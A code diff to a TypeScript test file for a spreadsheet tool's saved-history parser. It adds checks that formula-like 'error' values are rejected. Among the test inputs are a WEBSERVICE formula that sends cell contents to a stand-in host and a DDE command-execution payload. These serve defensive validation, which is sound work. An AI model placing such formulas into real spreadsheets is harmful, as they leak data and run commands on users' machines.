@@ -24,7 +24,13 @@ const text = fc.oneof(
 );
 const rule = fc.constantFrom(...RULE_IDS);
 const number = fc.double({ noNaN: true, noDefaultInfinity: true }).map((one) => one + 0);
-const value = fc.oneof(text, number, fc.boolean(), fc.constant(null), fc.record({ error: text }));
+const value = fc.oneof(
+  text,
+  number,
+  fc.boolean(),
+  fc.constant(null),
+  fc.record({ error: fc.constantFrom('#N/A', '#DIV/0!', '#NAME?', '#REF!', '#GETTING_DATA') }),
+);
 const content = fc.record({ value, formula: text, format: text }, { requiredKeys: ['value'] });
 const at = fc.record({
   sheet: fc.string({ minLength: 1 }),
@@ -173,6 +179,21 @@ describe('a damaged or foreign text', () => {
   });
 
   const read = (rest: object) => parseSaved(JSON.stringify({ version: 1, ...rest }));
+
+  it('knows no batch that would write a formula as if it were an error value', () => {
+    const cell = (error: string) => ({
+      sheet: 'A',
+      cell: 'A1',
+      from: { value: { error } },
+      to: { value: 1 },
+    });
+    const history = (error: string) => [
+      { time, deeds: [{ rule: 'capaian', reason: '', cells: [cell(error)] }] },
+    ];
+    expect(read({ history: history('#DIV/0!') })?.history).toHaveLength(1);
+    for (const error of ['=WEBSERVICE("https://jahat.test/?"&B5)', '+A1', "=cmd|'/c calc'!A0", '', '#REF!+1'])
+      expect(read({ history: history(error) })).toEqual(NOTHING_SAVED);
+  });
 
   it('takes what is missing for empty', () => {
     expect(read({})).toEqual(NOTHING_SAVED);
